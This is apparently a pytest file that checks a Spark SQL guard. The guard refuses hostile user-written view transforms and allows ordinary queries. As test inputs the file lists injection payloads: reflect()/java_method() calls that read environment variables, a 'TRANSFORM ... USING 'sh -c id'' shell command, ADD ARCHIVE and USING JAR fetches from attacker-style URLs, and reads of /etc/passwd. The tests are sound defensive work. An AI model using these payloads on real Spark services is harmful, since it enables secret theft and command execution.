"""The job's SQL guard on a real local Spark session: Spark's own parser, every attempt refused.

The attempts are the catalogue the operator's check and docs/security.md use
(tests/tenancy_attempts.py), the hostile corpus (tests/hostile_transforms.py),
on which the operator and the job must agree, and forms only Spark's parser
sees the same way.
"""

from __future__ import annotations

import json
import statistics
import time

import pytest
from pyspark.sql import SparkSession

from derived_views.api.spec import DerivedViewSpec
from derived_views.core.judges.spark_ddl import parse_schema
from derived_views.core.judges.transform import check_spec, check_sql
from derived_views.core.judges.transform_policy import unsafe_sql
from dvjob.config import TransformConfig
from dvjob.errors import ConfigError
from dvjob.sql import guard as sql_guard
from dvjob.transform import apply_transform
from support.corpora.hostile_transforms import HOSTILE, LEGITIMATE, SCHEMA, Hostile
from support.corpora.tenancy_attempts import SQL
from support.results import results_dir

JOB_WORDS = {
    "read the sink password from the environment": "reflect() reaches the JVM",
    "call a Java method": "java_method() reaches the JVM",
    "run a shell command": "TRANSFORM ... USING runs a command on the job's pods",
    "load a jar": "ADD JARS is a command, not a query",
    "write files": "INSERT INTO DIR is a command, not a query",
    "read a file": "csv.file:///etc/passwd reads a file or a catalog table",
    "hide reflect in a lambda": "reflect() reaches the JVM",
}
MORE = [
    ("SELECT REFLECT('java.lang.System', 'getenv', 'HOME') AS h FROM events", "reflect()"),
    ("SELECT `java_method`('a', 'b') AS h FROM events", "java_method()"),
    ("SELECT try_reflect('a', 'b') AS h FROM events", "try_reflect()"),
    ("WITH a AS (SELECT reflect('a', 'b') AS r FROM events) SELECT * FROM a", "reflect()"),
    ("SELECT * FROM events WHERE order_id IN (SELECT java_method('a', 'b'))", "java_method()"),
    ("SELECT * FROM events WHERE EXISTS (SELECT 1 FROM (SELECT reflect('a', 'b')))",
     "reflect()"),
    ("SET spark.sql.runSQLOnFiles=true", "SET is a command"),
    ("RESET", "RESET is a command"),
    ("ADD FILE /etc/passwd", "ADD FILES is a command"),
    ("ADD ARCHIVE https://attacker.example/a.zip", "ADD ARCHIVES is a command"),
    ("INSERT INTO t SELECT * FROM events", "INSERT INTO is a command"),
    ("CREATE TABLE t AS SELECT * FROM events", "is a command"),
    ("CREATE TEMPORARY FUNCTION f AS 'x.Y' USING JAR 'https://a/b.jar'", "is a command"),
    ("CACHE TABLE events", "CACHE TABLE is a command"),
    ("EXPLAIN SELECT * FROM events", "EXPLAIN is a command"),
    ("SELECT * FROM parquet.`s3a://bucket/x`", "parquet.s3a://bucket/x reads a file"),
    ("SELECT * FROM spark_catalog.default.t", "spark_catalog.default.t reads a file"),
    ("SELECT TRANSFORM(*) USING 'sh -c id' FROM events", "TRANSFORM ... USING runs"),
]
QUERIES = [
    "SELECT customer_id, count(*) AS orders, sum(amount) AS revenue FROM events "
    "GROUP BY customer_id",
    "WITH latest AS (SELECT *, row_number() OVER (PARTITION BY order_id ORDER BY "
    "_kafka_offset DESC) AS n FROM events) SELECT order_id, amount FROM latest WHERE n = 1",
    "SELECT e.order_id, c FROM events e LATERAL VIEW explode(array(1, 2)) t AS c",
    "SELECT order_id FROM events UNION ALL SELECT order_id FROM events",
    "SELECT * FROM VALUES (1, 2) AS t(a, b)",
    "SELECT id FROM range(10)",
    "SELECT order_id, transform(array(amount), x -> x * 2) AS doubled FROM events",
    "SELECT order_id, from_json('{\"a\": 1}', 'a INT').a AS a FROM events",
]
RESULTS = results_dir()


def refusal(spark: SparkSession, sql: str) -> str | None:
    try:
        sql_guard.check(spark, sql)
    except ConfigError as exc:
        return str(exc)
    return None


def test_every_catalogued_attempt_is_refused_by_the_job(spark: SparkSession) -> None:
    assert {what for what, _, _ in SQL} == set(JOB_WORDS)  # a new attempt needs its words here
    outcomes = {}
    for what, sql, _ in SQL:
        message = refusal(spark, sql)
        outcomes[what] = message
        assert message is not None and JOB_WORDS[what] in message, (what, message)
        assert message.startswith("transform.sql: ")
        assert "a view's SQL may only query `events`" in message
    RESULTS.mkdir(parents=True, exist_ok=True)
    (RESULTS / "sql_guard.json").write_text(json.dumps(outcomes, indent=2))


@pytest.mark.parametrize(("sql", "words"), MORE, ids=[m[0][:40] for m in MORE])
def test_forms_hidden_in_ctes_subqueries_case_and_quotes_are_refused(
        spark: SparkSession, sql: str, words: str) -> None:
    message = refusal(spark, sql)
    assert message is not None and words in message, message


@pytest.mark.parametrize("sql", QUERIES, ids=[q[:40] for q in QUERIES])
def test_queries_over_events_pass(spark: SparkSession, sql: str) -> None:
    assert refusal(spark, sql) is None


def test_a_second_statement_is_spark_parsers_error(spark: SparkSession) -> None:
    message = refusal(spark, "SELECT * FROM events; ADD JAR /tmp/a.jar")
    assert message is not None and "PARSE_SYNTAX_ERROR" in message


def test_the_transform_refuses_before_running_and_the_session_forgets_reflection(
        spark: SparkSession) -> None:
    events = spark.createDataFrame([("o1", 2.5)], "order_id STRING, amount DOUBLE")
    bad = TransformConfig(sql="SELECT order_id, reflect('java.lang.System', 'getenv', "
                              "'HOME') AS amount FROM events", python=None)
    with pytest.raises(ConfigError, match=r"reflect\(\) reaches the JVM"):
        apply_transform(bad, events)
    good = TransformConfig(sql="SELECT order_id, amount * 2 AS amount FROM events",
                           python=None)
    assert [tuple(r) for r in apply_transform(good, events).collect()] == [("o1", 5.0)]
    # The second wall, past the check: the functions are gone and files cannot be queried.
    for sql, words in (("SELECT reflect('java.lang.System', 'getenv', 'HOME')",
                        "UNRESOLVED_ROUTINE"),
                       ("SELECT * FROM text.`/etc/hostname`", "TABLE_OR_VIEW_NOT_FOUND")):
        with pytest.raises(Exception, match=words):
            spark.sql(sql).collect()


def job_refusal(spark: SparkSession, sql: str) -> str | None:
    """The job's verdict as its transform reaches it: parsed, then analysed."""
    try:
        sql_guard.query(spark, sql)
    except ConfigError as exc:
        return str(exc)
    return None


def operator_refusal(sql: str) -> str | None:
    try:
        spec = DerivedViewSpec.model_validate({
            "source": {"kafka": {"bootstrapServers": "kafka:9092"}, "topics": ["orders"],
                       "schema": SCHEMA},
            "transform": {"sql": sql},
            "sink": {"postgres": {"secretRef": {"name": "db"}, "table": "orders"},
                     "primaryKey": ["order_id"]}})
    except ValueError as exc:  # the API's schema (too long): the check alone must refuse too
        message = unsafe_sql(sql)
        assert message is not None, exc
        return message
    refusal = check_spec(spec)
    return None if refusal is None else refusal.message


@pytest.mark.parametrize("hostile", HOSTILE, ids=[h.what for h in HOSTILE])
def test_every_hostile_transform_is_refused_by_the_job(
        spark: SparkSession, events: None, hostile: Hostile) -> None:
    message = job_refusal(spark, hostile.text)
    assert message is not None and hostile.job in message, (hostile.what, message)
    assert message.startswith("transform.sql: ") and len(message) < 2000


@pytest.mark.parametrize(("what", "sql"), LEGITIMATE, ids=[w for w, _ in LEGITIMATE])
def test_every_legitimate_transform_is_allowed_by_the_job(
        spark: SparkSession, events: None, what: str, sql: str) -> None:
    assert job_refusal(spark, sql) is None, what


def test_the_operator_and_the_job_agree_on_the_whole_corpus(
        spark: SparkSession, events: None) -> None:
    outcomes = []
    for hostile in HOSTILE:
        by_operator, by_job = operator_refusal(hostile.text), job_refusal(spark, hostile.text)
        assert by_operator is not None and by_job is not None, (hostile.what, by_operator,
                                                                by_job)
        outcomes.append({"class": hostile.cls, "what": hostile.what, "layer": hostile.layer,
                         "operator": by_operator[:300], "job": by_job[:300]})
    fields = parse_schema(SCHEMA)
    for what, sql in LEGITIMATE:  # the operator's verdict without a primary key to find
        by_operator = unsafe_sql(sql) or check_sql(sql, fields, "json", ())
        assert (by_operator, job_refusal(spark, sql)) == (None, None), what
    RESULTS.mkdir(parents=True, exist_ok=True)
    (RESULTS / "sql_guard_hostile.json").write_text(json.dumps(outcomes, indent=2))


def test_the_guard_passes_a_typical_view_and_says_what_it_adds(spark: SparkSession,
                                                               events: None) -> None:
    """What the guard adds to the job's own spark.sql (which analyses the query anyway):
    parsing and walking the parsed plan, walking the analysed one; medians of 20 runs,
    written for docs/security.md, not asserted (a shared CPU makes times a measurement,
    not a test). The test fails if the guard refuses the typical view."""
    sql = LEGITIMATE[1][1]  # a CTE with a window
    added, analysis = [], []
    for _ in range(21):
        started = time.perf_counter()
        sql_guard.check(spark, sql)
        checked = time.perf_counter()
        frame = spark.sql(sql)
        analysed = time.perf_counter()
        sql_guard.check_analyzed(frame)
        added.append(checked - started + time.perf_counter() - analysed)
        analysis.append(analysed - checked)
    added_ms = statistics.median(added[1:]) * 1000
    RESULTS.mkdir(parents=True, exist_ok=True)
    (RESULTS / "sql_guard_timing.json").write_text(json.dumps({
        "sql": sql, "guard_median_ms": round(added_ms, 1),
        "guard_max_ms": round(max(added[1:]) * 1000, 1),
        "spark_sql_median_ms": round(statistics.median(analysis[1:]) * 1000, 1)}, indent=2))


def test_the_session_substitutes_no_variables(spark: SparkSession, events: None) -> None:
    """The second wall behind the `${` refusal: Spark reads `${env:HOME}` as plain text."""
    assert spark.conf.get("spark.sql.variable.substitute") == "false"
    assert spark.sql("SELECT '${env:HOME}' AS h").collect()[0].h == "${env:HOME}"
